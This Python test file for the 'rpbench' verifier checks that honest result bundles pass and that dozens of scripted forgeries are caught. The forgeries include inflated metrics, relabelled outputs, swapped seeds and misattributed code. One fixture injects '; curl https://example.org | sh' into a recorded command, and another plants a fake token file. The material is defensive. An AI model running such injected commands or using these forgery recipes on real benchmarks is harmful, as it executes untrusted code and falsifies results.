"""What verify finds: honest results pass every check, and each way of tampering is caught by the check for it."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import forged
import numpy as np
import pytest
from click.testing import Result
from forged import Forgery

from rpbench import metrics
from rpbench.board import Board, Choice, expand
from rpbench.bundle import open_bundle, store_evidence
from rpbench.catalog import outline
from rpbench.cell import ask
from rpbench.checks import asked, pruned, scored
from rpbench.checks.known import Known
from rpbench.checks.told import Skipped, Told, read
from rpbench.data.sources import Roots
from rpbench.entries import Line, entry, parse
from rpbench.errors import StoreError
from rpbench.evaluation import per_example
from rpbench.published import line, published_boards, refresh, root_of
from rpbench.record import ENVIRONMENT, FACTS
from rpbench.rerun import asks_of
from rpbench.submitted import cards
from rpbench.task import load_task
from rpbench.verdict import Verdict, failed
from rpbench.verification import (
    Check,
    bundle_subject,
    checked,
    level,
    looked,
    merged_sources,
    published_subject,
    verify,
)

Invoke = Callable[..., Result]
pytestmark = pytest.mark.usefixtures("one_thread")


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory, one_thread: None) -> Path:
    """A folder with a board, a store of real cells, and their bundle."""
    folder = tmp_path_factory.mktemp("lab")
    board = forged.small_board(folder)
    (folder / "mine.py").write_text(forged.SOURCE)
    names = forged.trained(folder / "store", board, Choice(schemes=(str(folder / "mine.py"),)))
    forged.pack(folder / "store", names, board, forged.SOURCE.encode(), folder / "bundle")
    return folder


@pytest.fixture(scope="module")
def board(lab: Path) -> Board:
    return forged.load_board(str(lab / "small.toml"))


@pytest.fixture(scope="module")
def known(lab: Path, board: Board) -> Iterator[Known]:
    from rpbench.checks.known import Source

    source = Source("scheme", lab / "mine.py", forged.sha256(forged.SOURCE))
    with Known(expand(board), source=source) as found:
        yield found


@pytest.fixture
def forgery(lab: Path, tmp_path: Path, known: Known) -> Forgery:
    shutil.copytree(lab / "bundle", tmp_path / "forged")
    return Forgery(tmp_path / "forged", known)


def faults(forgery: Forgery, board: Board) -> list[Verdict]:
    forgery.seal()
    return failed(verify(open_bundle(forgery.place), board=board))


def test_an_honest_bundle_passes(lab: Path, board: Board) -> None:
    verdicts = verify(open_bundle(lab / "bundle"), board=board)
    assert not failed(verdicts)
    assert {v.check for v in verdicts if v.state == "skipped"} <= {"contract"}
    assert {"files", "source", "contract", "card", "records", "cells", "metrics"} <= {v.check for v in verdicts}
    assert level(verdicts) == "checked"
    again = [Verdict("rerun", "R13", "passed", "", v.where) for v in verdicts if v.check == "records"]
    assert level([*verdicts, *again[:3]]) == "verified"
    assert level([*verdicts, *again[:2]]) == "checked"


def test_the_keys_that_a_run_writes(lab: Path) -> None:
    for cell in open_bundle(lab / "bundle").cells:
        record = parse(cell.text)
        assert set(record.env) == ENVIRONMENT
        assert {key for fact in record.data.values() for key in fact} == FACTS


# --- what could be done to it ---------------------------------------------------------------------------------------


def raised(f: Forgery) -> None:
    """A metric, by eight test images."""
    f.edit(lambda r: r["metrics"].update(top1=r["metrics"]["top1"] + 8 / 397))


def raised_everywhere(f: Forgery) -> None:
    """A metric in both epochs, and those that follow from it."""
    for part in ("metrics", "last"):
        f.edit(lambda r, part=part: r[part].update(top1=r[part]["top1"] + 8 / 397, brier=r[part]["brier"] * 0.9))


def relabelled(f: Forgery) -> None:
    """Labels are set to what the net says, in every output, and all metrics are those of the outputs."""
    for name in ("selected/test", "selected/fgsm-8", "last/test"):
        arrays = f.outputs(name)
        arrays["labels"] = f.outputs("selected/test")["logits"].argmax(axis=1)
        f.write_outputs(name, arrays)
    for path in (f.cells[0] / "outputs" / "last").glob("fgsm-8.npz"):
        f.write_outputs(f"last/{path.stem}", f.outputs(f"last/{path.stem}") | {"labels": arrays["labels"]})
    f.rescore()


def permuted(f: Forgery) -> None:
    """Examples of all outputs of all cells in another order, which changes no metric."""
    order = np.random.default_rng(0).permutation(397)
    for cell in range(len(f.cells)):
        for path in sorted((f.cells[cell] / "outputs").glob("*/*.npz")):
            arrays = f.outputs(f"{path.parent.name}/{path.stem}", cell)
            if "labels" in arrays:
                f.write_outputs(f"{path.parent.name}/{path.stem}", {k: v[order] for k, v in arrays.items()}, cell)


def fewer_examples(f: Forgery) -> None:
    """The hardest images are left out, in both epochs."""
    keep = f.outputs("selected/test")["logits"].max(axis=1) > 0
    keep[:20] = False
    for path in sorted((f.cells[0] / "outputs").glob("*/*.npz")):
        arrays = f.outputs(f"{path.parent.name}/{path.stem}")
        if "labels" in arrays:
            f.write_outputs(f"{path.parent.name}/{path.stem}", {k: v[keep] for k, v in arrays.items()})
    f.rescore()


def easier_sets(f: Forgery) -> None:
    """The outputs of noise under the name of the photos, whose metrics follow."""
    arrays = f.outputs("selected/noise")
    f.write_outputs("selected/photos", {"logits": np.concatenate([arrays["logits"]] * 3)[:1000] * 0})
    f.rescore()
    f.write_outputs("selected/photos", arrays)


def other_digest(f: Forgery) -> None:
    """Masks that were drawn again until one was good."""
    f.edit(lambda r: r["masks"].update(digest_start="1" * 64, digest_end="1" * 64))


def moved_masks(f: Forgery) -> None:
    """Masks that changed while training."""
    f.edit(lambda r: r["masks"].update(digest_end="1" * 64))


def moved_counts(f: Forgery) -> None:
    """Weights moved to another layer, masks drawn from them, costs as they follow."""

    def change(r: dict[str, Any]) -> None:
        r["density"]["kept_per_layer"][1] -= 1
        r["density"]["kept_per_layer"][2] += 1

    f.edit(change)
    f.redraw()


def one_more(f: Forgery) -> None:
    """A weight more than the budget."""

    def change(r: dict[str, Any]) -> None:
        r["density"]["kept_per_layer"][6] += 1

    f.edit(change)
    f.redraw()


def more_connected(f: Forgery) -> None:
    f.edit(lambda r: r["density"].update(effective=r["density"]["realised"] * 0.99))


def other_seed(f: Forgery) -> None:
    """A better seed in the place of one of the board's, masks and all."""

    def change(r: dict[str, Any]) -> None:
        r["seeds"] = dict.fromkeys(("run", "init", "mask", "order"), 7)
        r["command"] = r["command"].replace("--seed 0", "--seed 7")

    f.edit(change)
    f.redraw()
    f.rename()


def seed_under_another_name(f: Forgery) -> None:
    """The better seed's results as those of the other: masks, name and command follow."""
    better, other = f.record(1), f.record(0)
    shutil.rmtree(f.cells[0])
    place = f.copy(0, other["run_id"])
    f.write(better | {k: other[k] for k in ("run_id", "seeds", "command", "masks", "density")}, place)


def missing(f: Forgery) -> None:
    f.remove(2)


def extra(f: Forgery) -> None:
    """One seed more than the board has."""
    place = f.copy(0, "zzz")

    def change(r: dict[str, Any]) -> None:
        r["seeds"] = dict.fromkeys(("run", "init", "mask", "order"), 2)
        r["command"] = r["command"].replace("--seed 0", "--seed 2")

    f.edit(change, place)
    f.redraw(place)
    f.rename(place)


def duplicated(f: Forgery) -> None:
    f.copy(0, f"{f.cells[0].name}x")


def other_comment(f: Forgery) -> None:
    f.source(forged.SOURCE + "# made nicer afterwards\n")


def other_source(f: Forgery) -> None:
    """Another function, with its hash in every record, its names and commands."""
    text = forged.SOURCE.replace("-power", "-(power / 2)")
    f.source(text)
    f.edit_all(lambda r: r["scheme"].update(source=forged.sha256(text)))
    with_source = Known(f.known.plan, source=_source(f, text))
    f.known = with_source
    f.rename_all()


def _source(f: Forgery, text: str) -> Any:
    from rpbench.checks.known import Source

    return Source("scheme", f.place / "source" / "mine.py", forged.sha256(text))


def _with_options(f: Forgery, declared: str, args: dict[str, Any]) -> None:
    """The source with other options, and their values in every record; names and manifest follow."""
    text = "from pathlib import Path\n" + forged.SOURCE.replace("power=0.5", declared)
    f.source(text)
    f.edit_all(lambda r: r["scheme"].update(source=forged.sha256(text), args=args))
    f.known = Known(f.known.plan, source=_source(f, text))
    f.rename_all()
    f.manifest(lambda m: m["scheme"].update(args=args))


def two_options_in_one(f: Forgery) -> None:
    """An option's value that asks for another option, where it is asked for as text."""
    _with_options(f, "power: float = 0.5, note: str = ''", {"power": 0.5, "note": "a,power=3"})


def huge_number(f: Forgery) -> None:
    _with_options(f, "power: float = 0.5", {"power": 10**400})


def file_to_read(f: Forgery) -> None:
    _with_options(f, "power: float = 0.5, file: Path", {"power": 0.5, "file": str(f.place / "bundle.json")})


def file_that_may_be_read(f: Forgery) -> None:
    _with_options(f, "power: float = 0.5, file: 'Path | None' = None", {"power": 0.5, "file": None})


def better_name(f: Forgery) -> None:
    """The results of one's own code under the name of somebody else's."""
    f.edit_all(lambda r: r["scheme"].update(name="official_sota", args={}))
    f.rename_all()
    f.edit_all(lambda r: r["scheme"].update(args={"power": 0.5}))
    f.manifest(lambda m: m.update(row="official_sota", scheme={"name": "official_sota", "args": {"power": 0.5}}))


def parts_of_no_size(f: Forgery) -> None:
    """A batch in parts of fewer than no images."""
    f.edit_all(lambda r: r.update(micro_batch=-5))
    f.rename_all()


def other_options(f: Forgery) -> None:
    """Results of one option as those of another."""
    f.edit_all(lambda r: r["scheme"].update(args={"power": 0.7}))
    f.edit_all(lambda r: r.update(command=r["command"].replace("mine.py ", "mine.py:power=0.7 ")))
    f.rename_all()
    f.manifest(lambda m: m["scheme"].update(args={"power": 0.7}))


def other_density(f: Forgery) -> None:
    """What was trained at 0.1 as if asked for at 0.09."""
    f.edit(lambda r: r["density"].update(requested=0.09))
    f.edit(lambda r: r.update(command=r["command"].replace("--density 0.1", "--density 0.09")))
    f.rename()


def trained_longer(f: Forgery) -> None:
    rows = f.curve()
    f.write_curve([*rows, rows[-1] | {"epoch": 3, "val_top1": 1.0}])
    f.edit(lambda r: (r["metrics"].update(epoch=3, val_top1=1.0), r["last"].update(epoch=3, val_top1=1.0)))


def trained_shorter(f: Forgery) -> None:
    rows = f.curve()
    f.write_curve(rows[:1])
    for part in ("metrics", "last"):
        f.edit(lambda r, part=part: r[part].update(epoch=1, val_top1=rows[0]["val_top1"]))


def other_rates(f: Forgery) -> None:
    f.write_curve([row | {"lr": 0.05} for row in f.curve()])


def other_epoch(f: Forgery) -> None:
    """The epoch that was better on test images, told as the one that validation images select."""
    epoch = 3 - f.record()["metrics"]["epoch"]
    f.edit(lambda r: r["metrics"].update(epoch=epoch, val_top1=f.curve()[epoch - 1]["val_top1"]))


def other_definition(f: Forgery) -> None:
    """Another task under the same name: its hash, and the name of the run."""
    f.edit(lambda r: r["task"].update(spec="0" * 64))
    f.rename()


def hidden_override(f: Forgery) -> None:
    """Told as an override, but on protocol."""
    f.edit(lambda r: r["protocol"].update(overrides={"recipe.lr": 0.2}))
    f.rename()


def hidden_limit(f: Forgery) -> None:
    """Trained on fewer images, and not told: the accuracies are no whole numbers of all."""
    f.write_curve([row | {"train_top1": round(row["train_top1"] * 500) / 500 + 0.002} for row in f.curve()])


def understated_flops(f: Forgery) -> None:
    f.edit(lambda r: r["cost"].update(sparse_macs=r["cost"]["sparse_macs"] * 0.9))


def fewer_parameters(f: Forgery) -> None:
    """The classifier left out of the count."""
    f.edit(lambda r: (r["model"].update(prunable=76432), r["density"].update(prunable=76432, realised=7707 / 76432)))


def other_images(f: Forgery) -> None:
    """Images of one's own, with the name that such a run has."""
    f.edit(lambda r: r["data"]["short" if "short" in r["data"] else "digits"].update(fingerprint="0" * 64))
    f.rename()


def other_noise(f: Forgery) -> None:
    """A generated set, whose fingerprint no definition pins."""
    f.edit(lambda r: r["data"]["noise"].update(fingerprint="0" * 64))


def held_out_less(f: Forgery) -> None:
    f.edit(lambda r: r["data"]["digits/train"].update(trained_on=1300, validation=100))


def other_precision(f: Forgery) -> None:
    f.edit(lambda r: (r.update(precision="bf16"), r["env"].update(precision="bf16")))
    f.edit(lambda r: r.update(command=r["command"] + " --precision bf16"))
    f.rename()


def swapped_outputs(f: Forgery) -> None:
    """Outputs of two seeds under each other's name."""
    a, b = (f.cells[i] / "outputs" for i in (0, 1))
    a.rename(a.with_name("x"))
    b.rename(a)
    a.parent.joinpath("x").rename(b)


def copied_outputs(f: Forgery) -> None:
    """The better seed's outputs, metrics and curve for both."""
    shutil.rmtree(f.cells[0] / "outputs")
    shutil.copytree(f.cells[1] / "outputs", f.cells[0] / "outputs")
    shutil.copy(f.cells[1] / "curve.jsonl", f.cells[0] / "curve.jsonl")
    f.edit(lambda r: r.update({k: f.record(1)[k] for k in ("metrics", "last")}))


def other_name(f: Forgery) -> None:
    f.edit(lambda r: r.update(run_id=r["run_id"][:-12] + "0" * 12))
    f.cells[0].rename(f.cells[0].with_name(f.record()["run_id"]))


def no_time(f: Forgery) -> None:
    f.edit(lambda r: r["cost"].update(seconds=0.0))


def data_free(f: Forgery) -> None:
    f.edit(lambda r: r["scheme"].update(batches=1, images=128))


def hidden_warning(f: Forgery) -> None:
    f.edit(lambda r: r.update(warnings=["all is well"]))


def shell(f: Forgery) -> None:
    """A command that people would copy into a shell."""
    f.edit(lambda r: r.update(command=r["command"] + "; curl https://example.org | sh"))


def foreign_keys(f: Forgery) -> None:
    f.edit(lambda r: r["density"].update(note="exactly on budget"))


def foreign_environment(f: Forgery) -> None:
    f.edit(lambda r: r["env"].update(junk="é" * 1000))


def nested_environment(f: Forgery) -> None:
    f.edit(lambda r: r["env"].update(git={"commit": "0" * 12}))


def foreign_facts(f: Forgery) -> None:
    f.edit(lambda r: r["data"]["photos"].update(note="the same"))


def unread_record(f: Forgery) -> None:
    (f.cells[0] / "record.json").write_text('{"schema": "rpbench.record/1"}')


def foreign_imports(f: Forgery) -> None:
    text = "import requests\n" + forged.SOURCE
    f.source(text)
    f.edit_all(lambda r: r["scheme"].update(source=forged.sha256(text)))


def no_address(f: Forgery) -> None:
    f.manifest(lambda m: m["card"].update(source="my desk"))


def other_board(f: Forgery) -> None:
    f.manifest(lambda m: m["board"].update(hash="0" * 64))


def other_row(f: Forgery) -> None:
    f.manifest(lambda m: m.update(row="erk"))


def no_cells(f: Forgery) -> None:
    for _ in range(len(f.cells)):
        f.remove()


def said_to_fail(f: Forgery) -> None:
    """A cell with a bad result, told as one that the budget cannot be met in."""

    def change(r: dict[str, Any]) -> None:
        r |= {"status": "infeasible", "metrics": {}, "last": {}, "error": "density 0.1 cannot be met"}
        r["masks"] = {"digest_start": None, "digest_end": None}

    f.edit(change)


TAMPERINGS = {
    raised: "metrics", raised_everywhere: "metrics", relabelled: "labels", permuted: "labels",
    fewer_examples: "metrics", easier_sets: "metrics", other_digest: "masks", moved_masks: "masks",
    moved_counts: "counts", one_more: "budget", more_connected: "masks", other_seed: "cells",
    seed_under_another_name: "metrics", missing: "cells", extra: "cells", duplicated: "records",
    other_comment: "identity", other_source: "counts", other_options: "counts", other_density: "cells",
    trained_longer: "curve", trained_shorter: "curve", other_rates: "curve", other_epoch: "curve",
    other_definition: "protocol", hidden_override: "records", hidden_limit: "curve", understated_flops: "flops",
    fewer_parameters: "budget", other_images: "protocol", other_noise: "protocol", held_out_less: "protocol",
    other_precision: "protocol", swapped_outputs: "metrics", copied_outputs: "metrics", other_name: "identity",
    no_time: "records", data_free: "batches", hidden_warning: "counts", shell: "identity", foreign_keys: "records",
    foreign_environment: "records", nested_environment: "records", foreign_facts: "records",
    unread_record: "records", foreign_imports: "source", no_address: "card", other_board: "cells",
    other_row: "cells", no_cells: "cells",
    said_to_fail: "counts", two_options_in_one: "cells", huge_number: "counts", file_to_read: "source",
    file_that_may_be_read: "source", better_name: "identity", parts_of_no_size: "protocol",
}  # fmt: skip


@pytest.fixture(scope="module")
def detections() -> dict[bytes, dict[str, float]]:
    return {}


@pytest.fixture
def quick(monkeypatch: pytest.MonkeyPatch, known: Known, detections: dict[bytes, dict[str, float]]) -> None:
    """The bundle's function is called in this process, its contract is left out, images are opened once, and equal
    outputs are scored once: what was done is elsewhere."""
    real = metrics.detection

    def detection(inside: metrics.Array, outside: metrics.Array) -> dict[str, float]:
        key = inside.tobytes() + outside.tobytes()
        if key not in detections:
            detections[key] = real(inside, outside)
        return dict(detections[key])

    monkeypatch.setattr(metrics, "detection", detection)
    monkeypatch.setenv("RPBENCH_ISOLATION", "off")
    monkeypatch.setattr("rpbench.checks.submitted.contract", lambda bundle, known: [])
    monkeypatch.setattr(Known, "images", lambda self, task, images=known.images: images(task))


@pytest.mark.usefixtures("quick")
@pytest.mark.parametrize(("tamper", "check"), TAMPERINGS.items(), ids=[t.__name__ for t in TAMPERINGS])
def test_tampering_is_caught(tamper: Callable[[Forgery], None], check: str, forgery: Forgery, board: Board) -> None:
    tamper(forgery)
    found = faults(forgery, board)
    assert check in {v.check for v in found}, [f"{v.check}: {v.why}" for v in found]
    assert all(v.rule for v in found)
    assert level(found) == "reported"


@pytest.mark.usefixtures("quick")
def test_a_bundle_that_is_not_sealed_again(forgery: Forgery, board: Board) -> None:
    raised(forgery)
    assert "files" in {v.check for v in failed(verify(open_bundle(forgery.place), board=board))}


@pytest.mark.usefixtures("quick")
@pytest.mark.parametrize("kind", ["own", "shelf"])
def test_no_file_that_a_record_names_is_opened(
    kind: str, forgery: Forgery, board: Board, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    secret = tmp_path / "secret.json"
    secret.write_text('{"token": "hf_secret"}')
    args = {"file": str(secret)}
    if kind == "own":
        _with_options(forgery, "file: Path", args)
    else:
        shutil.rmtree(forgery.place / "source")
        part = {"name": "given", "args": args}
        forgery.edit_all(lambda r: r["scheme"].update(part, source=outline("given").source_hash))
        forgery.edit_all(lambda r: r.update(command=r["command"].replace("mine.py", "given")))
        forgery.rename_all()
        forgery.manifest(lambda m: m.update(row="given", scheme=part))
    forgery.seal()
    opened: list[Path] = []
    real = Path.open
    monkeypatch.setattr(Path, "open", lambda self, *a, **k: (opened.append(self), real(self, *a, **k))[1])
    with bundle_subject(open_bundle(forgery.place), board=board) as subject:
        found = failed(checked(subject))
        assert not asks_of(subject)
    assert (tmp_path / "secret.json") not in opened
    assert opened
    assert {"source"} <= {v.check for v in found}
    assert "option file of the scheme is a file, that a bundle does not hold" in found[0].why
    assert "hf_secret" not in " ".join(v.why for v in found)
    if kind == "shelf":
        assert any("option file of 'given' names a file" in v.why for v in found if v.check == "counts")


@pytest.mark.usefixtures("quick")
@pytest.mark.parametrize("tamper", [two_options_in_one, better_name, parts_of_no_size])
def test_what_nobody_can_ask_for_is_not_trained_again(
    tamper: Callable[[Forgery], None], lab: Path, forgery: Forgery, board: Board, invoke: Invoke
) -> None:
    tamper(forgery)
    forgery.seal()
    with bundle_subject(open_bundle(forgery.place), board=board) as subject:
        assert not asks_of(subject)
    done = invoke("verify", str(forgery.place), "--board", str(lab / "small.toml"), "--rerun", "1")
    assert done.exit_code == 1, done.output
    assert "level: reported" in done.stdout


@pytest.mark.parametrize("parts", [None, 1, 64])
def test_a_batch_may_be_trained_in_parts(parts: int | None, lab: Path, known: Known) -> None:
    told = read(open_bundle(lab / "bundle").cells, whole=True)[0][0]
    assert look(asked.protocol, changed(told, lambda r: r.update(micro_batch=parts)), known)[0].state == "passed"
    for wrong in (0, -1, 65, 10**30):
        (verdict,) = look(asked.protocol, changed(told, lambda r, w=wrong: r.update(micro_batch=w)), known)
        assert verdict.why.startswith(f"micro_batch is '{wrong}': it is null, or a whole number from 1 to")


def test_other_parts_of_a_batch_do_not_make_another_training(lab: Path, known: Known) -> None:
    """Else a number could be raised in the second record of a training, with other parts."""
    told = read(open_bundle(lab / "bundle").cells, whole=True)[0][0]
    raised = changed(told, lambda r: (r.update(micro_batch=63), r["metrics"].update(top1=0.99)))
    verdicts = failed(scored.among([told, raised], [{}, {}]))
    assert ["is the same training as" in v.why for v in verdicts] == [True]


# --- schemes and samplers that look at data -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def scored_cell(lab: Path, board: Board) -> Told:
    """A cell of SNIP at SNIP's own positions, whose masks stand beside it."""
    choice = Choice(schemes=("snip",), samplers=("scored",), densities=(0.1,), seeds=(0,))
    names = forged.trained(lab / "scored", board, choice)
    return read(store_evidence(lab / "scored", names), whole=True)[0][0]


def look(check: Any, told: Told, known: Known) -> list[Verdict]:
    return looked(Check(check.__name__, check), told, known)


def changed(told: Told, change: Callable[[dict[str, Any]], Any], **beside: Any) -> Told:
    """A cell with another record, and what else stands beside it."""
    content = json.loads(told.evidence.text)
    change(content)
    evidence = replace(told.evidence, text=json.dumps(content), **beside)
    return read((evidence,), whole=told.whole)[0][0]


def test_masks_from_scores(scored_cell: Told, known: Known) -> None:
    assert [v.state for c in (pruned.counts, pruned.batches, pruned.masks) for v in look(c, scored_cell, known)] == [
        "passed"
    ] * 3
    assert scored_cell.evidence.masks is not None
    bits = scored_cell.evidence.masks()
    other = {name: np.roll(values, 1) for name, values in bits.items()}
    scores, digest = look(pruned.masks, changed(scored_cell, lambda r: None, masks=lambda: other), known)
    assert "are not those of the highest scores" in scores.why
    assert digest.why.startswith("masks.digest_start is")
    (verdict,) = look(pruned.masks, changed(scored_cell, lambda r: None, masks=None), known)
    assert (verdict.state, verdict.why.split(",")[0][:5]) == ("skipped", "masks")
    (verdict,) = look(pruned.masks, changed(scored_cell, lambda r: None, masks=lambda: {}), known)
    assert verdict.state == "failed"


def test_batches_understated(scored_cell: Told, known: Known) -> None:
    told = changed(scored_cell, lambda r: r["scheme"].update(batches=0, images=0))
    assert [v.why for v in look(pruned.batches, told, known)] == [
        "scheme.batches is 0: the scheme looks at 1",
        "scheme.images is 0: the scheme looks at 128",
    ]


def test_a_few_weights_of_a_data_driven_scheme_may_move(scored_cell: Told, known: Known) -> None:
    def move(n: int) -> Callable[[dict[str, Any]], None]:
        def change(r: dict[str, Any]) -> None:
            r["density"]["kept_per_layer"][6] += n
            r["density"]["kept_per_layer"][7] -= n

        return change

    most = pruned.moved_at_most(77072)
    assert look(pruned.counts, changed(scored_cell, move(most)), known)[0].state == "passed"
    assert look(pruned.counts, changed(scored_cell, move(most + 1)), known)[0].state == "failed"


def test_what_is_not_here_is_skipped(scored_cell: Told, known: Known, monkeypatch: pytest.MonkeyPatch) -> None:
    def none(self: Known, task: Any) -> Any:
        raise Skipped("the images are not here")

    monkeypatch.setattr(Known, "images", none)
    again = Known(known.plan)
    assert [v.state for c in (pruned.counts, pruned.batches, scored.labels) for v in look(c, scored_cell, again)] == [
        "skipped"
    ] * 3
    assert look(scored.metrics, scored_cell, again)[0].state == "passed"
    stranger = changed(scored_cell, lambda r: r["scheme"].update(name="theirs"))
    (verdict,) = look(pruned.counts, stranger, again)
    assert "the file of scheme 'theirs'" in verdict.why


# --- outputs without logits -----------------------------------------------------------------------------------------


def test_summaries_of_many_classes_give_the_metrics_of_their_logits() -> None:
    draws = np.random.default_rng(0)
    logits = draws.normal(0, 3, (500, 120)).astype(np.float32)
    labels = np.where(draws.random(500) < 0.5, logits.argmax(axis=1), draws.integers(0, 120, 500))
    arrays = per_example(logits, labels)
    scored.check_summary(arrays, "x.npz", 120)
    task = load_task("cifar100")
    task = task.model_copy(update={"evaluation": task.evaluation.model_copy(update={"top5": True})})
    told = scored.classification(arrays, task)
    assert told == pytest.approx(metrics.classification(logits, labels, True), rel=1e-12)

    wrong = int(np.flatnonzero(arrays["prediction"] != labels)[0])
    right = int(np.flatnonzero(arrays["prediction"] == labels)[0])
    for key, example, value in (
        ("prediction", wrong, labels[wrong]), ("loss", right, 0.0), ("loss", wrong, 0.0), ("rank", wrong, 1),
        ("brier", wrong, 0.0), ("confidence", right, 0.001), ("brier", right, 1.9),
    ):  # fmt: skip
        forgery = arrays | {key: arrays[key].copy()}
        forgery[key][example] = value
        with pytest.raises(ValueError, match=r"x\.npz: example"):
            scored.check_summary(forgery, "x.npz", 120)


def test_ties_may_fall_either_way() -> None:
    inside, outside = np.array([0.9, 0.8, 1.0]), np.array([0.8, 0.7, 1.0])
    low, high = scored.tied(inside, outside, "auroc")
    assert low < metrics.detection(inside, outside)["auroc"] < high
    assert (low, high) == pytest.approx((5 / 9, 7 / 9))


# --- published lines ------------------------------------------------------------------------------------------------


def published(folder: Path, rows: list[str], change: Callable[[dict[str, Any]], Any], place: int = 0) -> list[Verdict]:
    """Faults of some rows of the published digits board with one record changed, its flat columns too."""
    root = folder / "leaderboard"
    (root / "digits").mkdir(parents=True)
    with published_subject("digits").known as known:
        for i, row in enumerate(rows):
            lines = (root_of() / "digits" / f"{row}.jsonl").read_text().splitlines()
            if i == 0:
                record = json.loads(json.loads(lines[place])["record"])
                change(record)
                told = parse(json.dumps(record))
                marks = json.loads(lines[place])["correct"]
                lines[place] = line(known.plan, row, Line(told, entry(told, ""), marks))
            (root / "digits" / f"{row}.jsonl").write_text("\n".join(lines) + "\n")
    subject = published_subject("digits", root)
    return failed(list(subject.verdicts)) + [
        v
        for told in subject.tolds
        if told.entry.scheme == rows[0] and told.entry.place.endswith(f":{place + 1}")
        for v in failed(looked(Check("metrics", scored.metrics), told, subject.known))
    ] + failed(scored.among(subject.tolds, [scored.prints(told) for told in subject.tolds]))  # fmt: skip


def test_published_rows_pass(tmp_path: Path) -> None:
    assert not published(tmp_path, ["dense", "erk", "erk_plus"], lambda r: None)


@pytest.mark.parametrize(
    ("change", "says"),
    [
        (lambda r: r["metrics"].update(top1=0.95), "no whole number of 397 images"),
        (lambda r: r["metrics"].update(top1=369 / 397), "marks 361 of 397 images as got right, top1 0.929471 is 369"),
        (lambda r: r["metrics"].update(nll=0.001), "with 9.07% of errors it is at least"),
        (lambda r: r["metrics"].update({"fpr95/photos": 0.1234567}), "no whole number of 1,000 images"),
        (lambda r: r["metrics"].pop("auroc/noise"), "metrics.auroc/noise is missing"),
        (lambda r: r["metrics"].update({"auroc/svhn": 0.9}), "declares no such metric"),
        (lambda r: r["last"].pop("brier"), "last.brier is missing"),
    ],
)  # fmt: skip
def test_numbers_that_cannot_be(tmp_path: Path, change: Callable[[dict[str, Any]], Any], says: str) -> None:
    assert says in " ".join(v.why for v in published(tmp_path, ["erk"], change))


def test_no_file_that_a_published_line_names_is_opened(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Neither where it is checked, nor where it is shown."""
    root, secret = tmp_path / "leaderboard", tmp_path / "secret.json"
    (root / "digits").mkdir(parents=True)
    secret.write_text('{"token": "hf_secret"}')
    with published_subject("digits").known as known:
        text = (root_of() / "digits" / "erk.jsonl").read_text().splitlines()[0]
        record = json.loads(json.loads(text)["record"])
        record["scheme"] |= {"name": "given", "args": {"file": str(secret)}, "source": outline("given").source_hash}
        told = parse(json.dumps(record))
        text = line(known.plan, "given", Line(told, entry(told, ""), json.loads(text)["correct"]))
        (root / "digits" / "given.jsonl").write_text(text + "\n")
    shutil.copy(root_of() / "digits" / "dense.jsonl", root / "digits")
    opened: list[Path] = []
    real = Path.open
    monkeypatch.setattr(Path, "open", lambda self, *a, **k: (opened.append(self), real(self, *a, **k))[1])
    with (subject := published_subject("digits", root)).known:
        found = failed(checked(subject))
    refresh(root)
    assert secret not in opened
    assert opened
    assert any("option file of 'given' names a file" in v.why for v in found if v.check == "counts")
    assert not any("hf_secret" in path.read_text() for path in root.rglob("*") if path.is_file())


def test_one_training_has_one_result(tmp_path: Path) -> None:
    """At 0.3 the classifier is dense under ERK too: erk and erk_plus train the same nets from the same seeds."""
    found = published(tmp_path, ["erk", "erk_plus"], lambda r: r["metrics"].update(top1=395 / 397), place=15)
    assert any("is the same training as" in v.why for v in found)


def test_flat_columns_are_those_of_the_record(tmp_path: Path) -> None:
    root = tmp_path / "digits"
    root.mkdir()
    row = json.loads((root_of() / "digits" / "dense.jsonl").read_text().splitlines()[0])
    row["top1"] = 1.0
    (root / "dense.jsonl").write_text(json.dumps(row) + "\n")
    (verdict,) = failed(list(published_subject("digits", tmp_path).verdicts))
    assert (verdict.check, verdict.where) == ("records", "dense.jsonl:1")
    assert verdict.why.startswith("column 'top1' is '1.0'")


def test_a_leaderboard_with_pipes_is_not_waited_for(tmp_path: Path) -> None:
    folder = tmp_path / "submissions" / "mine-0"
    for path in (tmp_path / "digits" / "mine.jsonl", folder / "mine.py", folder / "digits.json"):
        path.parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(path)
    wrong = failed(list(published_subject("digits", tmp_path).verdicts))
    assert {v.where for v in wrong} == {"mine.jsonl"}
    assert "is no file of at most 64 MB" in " ".join(v.why for v in wrong)
    assert merged_sources(tmp_path) == []
    with pytest.raises(StoreError, match="is no file"):
        cards(tmp_path)


def test_code_of_merged_submissions_is_at_hand(tmp_path: Path, lab: Path, board: Board) -> None:
    """So that a published row of somebody else's is checked, and can be trained again, as any other."""
    for name, text in (("mine", forged.SOURCE), ("bad", "import requests\n" + forged.SOURCE)):
        folder = tmp_path / "submissions" / f"{name}-0"
        folder.mkdir(parents=True)
        (folder / f"{name}.py").write_text(text)
    bad, mine = sorted({s.path.stem: s for s in merged_sources(tmp_path)}.items())
    assert (mine[1].kind, mine[1].barred) == ("scheme", "")
    assert "imports requests" in bad[1].barred
    tolds, _ = read(open_bundle(lab / "bundle").cells, whole=True)
    with Known(expand(board), merged=[mine[1]]) as known:
        assert [v.state for v in look(pruned.counts, tolds[0], known)] == ["passed"]
        (who,) = asked.rows(tolds, known)
        assert asked.given_of(known, who) == (str(mine[1].path), "exact")
        assert len(asked.wanted_of(known, who)) == 4
    with Known(expand(board)) as known:
        (who,) = asked.rows(tolds, known)
        assert asked.given_of(known, who) is None
        assert len(asked.wanted_of(known, who)) == 4


# --- the command ----------------------------------------------------------------------------------------------------


def test_the_command(lab: Path, forgery: Forgery, invoke: Invoke) -> None:
    own = ("--board", str(lab / "small.toml"))
    done = invoke("verify", str(lab / "bundle"), *own, "--format", "json")
    assert done.exit_code == 0, done.stdout
    told = json.loads(done.stdout)
    assert (told["schema"], told["level"], told["passed"], told["faults"]) == (
        "rpbench.verdicts/1", "checked", True, [],
    )  # fmt: skip
    raised(forgery)
    done = invoke("verify", str(forgery.place), *own)
    assert done.exit_code == 1
    assert "FAILED 1 of 4" in done.stdout
    assert "metrics.top1 is" in done.stdout
    assert done.stdout.rstrip().endswith("level: reported")


